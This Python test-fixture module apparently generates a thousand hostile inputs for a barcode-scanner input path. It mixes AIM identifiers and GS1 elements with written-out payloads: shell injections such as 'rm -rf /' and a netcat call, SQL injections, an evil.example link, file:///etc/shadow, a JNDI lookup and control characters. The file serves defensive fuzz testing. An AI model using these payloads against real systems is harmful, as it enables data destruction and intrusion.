"""A thousand hostile codes: what could act as a key, a command, a query or a link, if anything let it (T-2)."""

import random
import string
from collections.abc import Callable

GS = "\x1d"
MARK = "Zq7#"  # stands in every hostile code, so that it can be searched for wherever text is kept
SHELL = ["; rm -rf /", "$(reboot)", "`id`", "| nc 10.0.0.1 9", "&& poweroff", "../../etc/passwd", "\\\\host\\share"]
SQL = ["' OR 1=1 --", "'; DROP TABLE sale; --", '" UNION SELECT pin FROM staff --', "1); DELETE FROM journal; --"]
LINKS = [
    "https://evil.example/x",
    "javascript:alert(1)",
    "file:///etc/shadow",
    "http://a/01/1/10/",
    "tel:112",
    "wifi:S:x;;",
]
KEYS = ["\x1b[2J", "\x1b[A", "\x03", "\x1a", "\x04", "\x7f\x7f", "\x0b", "\x10\x04\x01", "\x16M", "\x02\x03", "\x00"]
MARKS = ["\u202e", "\u200f", "\u2066", "\u0007", "\ufeff", "가격", "￦1"]
AIM = ["]C1", "]E0", "]Q3", "]d2", "]e0", "]E3", "]", "]Q", "]z9", "]C1]C1"]
ELEMENTS = [f"01{GS}", f"0108801234{GS}", f"10{GS}{GS}{GS}", f"99{'9' * 90}", f"3103{GS}00", f"17{GS}999999", f"{GS}01"]


def hostile_codes(seed: int = 20260301) -> list[bytes]:
    """A thousand different ones; none is the number of an item."""
    chance = random.Random(seed)
    kinds: list[Callable[[], bytes]] = [
        lambda: chance.choice(SHELL).encode(),
        lambda: chance.choice(SQL).encode(),
        lambda: chance.choice(LINKS).encode(),
        lambda: chance.choice(KEYS).encode(),
        lambda: chance.choice(MARKS).encode(),
        lambda: chance.choice(ELEMENTS).encode(),
        lambda: bytes(chance.choices(range(256), k=chance.randint(1, 60))).replace(b"\r", b"").replace(b"\n", b""),
        lambda: "\ud800\udfff".encode("utf-8", "surrogatepass"),
        lambda: b"\xc0\xaf\xe0\x80\xaf\xf8",
        lambda: "".join(chance.choices(string.printable[:94], k=4096)).encode(),
        lambda: b"7" * chance.choice([513, 600, 4096]),
        lambda: b"%s%n%x{0}{{7*7}}${jndi:ldap://x}",
    ]
    codes = []
    for number in range(1000):
        head = chance.choice(AIM).encode() if chance.random() < 0.4 else b""
        codes.append(head + f"{MARK}{number}".encode() + kinds[number % len(kinds)]())
    codes[:20] = [each.encode() for each in (*AIM, *AIM)]  # identifiers with nothing behind them
    return codes
